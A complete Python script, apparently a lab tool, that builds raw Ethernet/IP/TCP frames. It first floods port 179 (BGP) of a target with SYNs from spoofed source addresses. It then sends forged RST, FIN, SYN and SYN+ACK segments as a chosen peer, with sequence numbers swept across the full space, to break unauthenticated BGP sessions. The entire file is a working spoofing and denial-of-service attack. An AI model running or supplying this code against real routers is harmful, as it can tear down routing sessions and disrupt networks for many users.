#!/usr/bin/env python3
"""Segments without a key, as many as are asked for, out of one interface of the lab.

  flood.py INTERFACE HARDWARE-ADDRESS FROM TO FROM-PORT TO-PORT SYNS SWEEPS

SYNs to port 179 of TO, each of another source; then SWEEPS segments in the name of FROM: RST,
RST+ACK, FIN+ACK, SYN and SYN+ACK in turn, their sequence numbers spread over the whole space.
"""

import socket
import struct
import sys

FIN, SYN, RST, ACK = 0x01, 0x02, 0x04, 0x10
OWN_HARDWARE = bytes.fromhex("02deadbeef01")
SWEPT = (RST, RST | ACK, FIN | ACK, SYN, SYN | ACK)
STEP = 65_521  # prime: the numbers come round only after 2^32 of them
NO_BUFFER = 105


def checksum(octets):
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(link, source, destination, ports, seq, flags):
    ip = struct.pack(">BBHHHBBH", 0x45, 0, 40, 0, 0x4000, 64, 6, 0) + source + destination
    ip = ip[:10] + struct.pack(">H", checksum(ip)) + ip[12:]
    tcp = struct.pack(">HHIIBBHHH", *ports, seq, seq, 0x50, flags, 65535, 0, 0)
    covered = source + destination + struct.pack(">HH", 6, len(tcp)) + tcp
    return link + ip + tcp[:16] + struct.pack(">H", checksum(covered)) + tcp[18:]


def main(interface, hardware, source, destination, from_port, to_port, syns, sweeps):
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)
    wire.bind((interface, 0))
    link = bytes.fromhex(hardware.replace(":", "")) + OWN_HARDWARE + b"\x08\x00"
    target = socket.inet_aton(destination)
    sent = 0
    for number in range(int(syns)):
        stranger = struct.pack(">I", 0x0A000000 + number % 0xFFFFFF)
        sent += send(wire, frame(link, stranger, target, (1024 + number % 60000, 179), number, SYN))
    peer = socket.inet_aton(source)
    for number in range(int(sweeps)):
        seq = number * STEP & 0xFFFFFFFF
        flags = SWEPT[number % len(SWEPT)]
        sent += send(wire, frame(link, peer, target, (int(from_port), int(to_port)), seq, flags))
    print(sent)


def send(wire, octets):
    """Whether the frame left: a full queue loses it, as a wire would."""
    try:
        wire.send(octets)
        return True
    except OSError as refused:
        if refused.errno != NO_BUFFER:
            raise
        return False


if __name__ == "__main__":
    if len(sys.argv) != 9:
        sys.exit(__doc__)
    main(*sys.argv[1:])
